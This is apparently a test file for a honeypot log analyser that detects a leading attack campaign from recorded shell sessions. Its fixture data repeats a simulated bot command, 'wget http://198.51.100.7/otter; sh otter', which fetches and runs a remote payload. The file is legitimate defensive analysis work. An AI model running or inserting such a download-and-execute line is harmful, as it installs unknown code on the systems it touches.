/** The campaign that made more than half of what was typed on its days: against a plain count; none where none did. */
import { expect, test } from "bun:test";
import { findCampaigns } from "../../../lib/campaigns/find-campaigns.ts";
import { findLeadingCampaign } from "../../../lib/campaigns/leading-campaign.ts";
import type { EventScope } from "../../../lib/events/scope.ts";
import { type LogEvent, NOON_MS, readEvents } from "../../support/event-logs.ts";

const DAY = Math.floor(NOON_MS / 86_400_000);
const DAY_S = 86_400;

/** On the second and third day a bot types the same in 24 sessions from 6 addresses; others type something else, each its own. */
function events(others: number): LogEvent[] {
  const typed = (session: string, at: number, input: string, src_ip: string, sensor = "a"): LogEvent => ({ eventid: "command.input", at, session, input, src_ip, sensor });
  const bot = Array.from({ length: 24 }, (_, i) => typed(`b${i}`, (1 + (i % 2)) * DAY_S + i, "wget http://198.51.100.7/otter; sh otter", `192.0.2.${i % 6}`, i === 5 ? "b" : "a"));
  const rest = Array.from({ length: others }, (_, i) => typed(`o${i}`, (1 + (i % 2)) * DAY_S + 100 + i, `echo own-${"abcdefghijklmnopqrstuvwxyz"[i]}`.repeat(2 + i), "203.0.113.9"));
  const before = Array.from({ length: 30 }, (_, i) => typed(`e${i}`, i, `cat /etc/file${i}`, "203.0.113.8"));
  return [...before, ...bot, ...rest].sort((x, y) => x.at - y.at);
}

async function find(others: number, scope: EventScope = {}) {
  using set = await readEvents(events(others));
  return findLeadingCampaign(await findCampaigns(set, scope), scope);
}

test("its sessions, all of its days, its addresses and sensors", async () => {
  expect(await find(20)).toEqual({
    name: "otter",
    first: DAY + 1,
    last: DAY + 2,
    typed: 24,
    all: 44,
    addresses: 6,
    sensors: ["a", "b"],
    commands: expect.arrayContaining([expect.stringContaining("wget")]),
    perDay: [12, 12],
  });
});

test("only the days and sensors asked for count; a half is no lead, nor are few sessions", async () => {
  expect(await find(20, { sensors: ["a"] })).toMatchObject({ typed: 23, all: 43, sensors: ["a"] });
  expect(await find(24)).toBeUndefined();
  expect(await find(0, { untilDay: DAY + 1 })).toBeUndefined();
  expect(await find(0, { sensors: ["b"] })).toBeUndefined();
});
